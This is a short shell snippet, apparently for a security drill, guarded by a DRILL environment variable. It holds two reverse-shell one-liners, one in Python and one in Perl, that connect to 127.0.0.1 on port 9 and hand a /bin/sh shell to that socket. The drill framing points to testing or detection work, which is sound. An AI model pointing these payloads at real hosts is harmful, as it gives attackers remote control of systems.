cd "${DRILL:?this is for a drill alone}" || exit
python3 -c 'import socket,os,pty
s=socket.socket()
s.connect_ex(("127.0.0.1",9)) and exit()
os.dup2(s.fileno(),0); pty.spawn("/bin/sh")'
perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); if(connect(S,sockaddr_in(9,inet_aton("127.0.0.1")))){open(STDIN,">&S"); exec("/bin/sh -i");}'
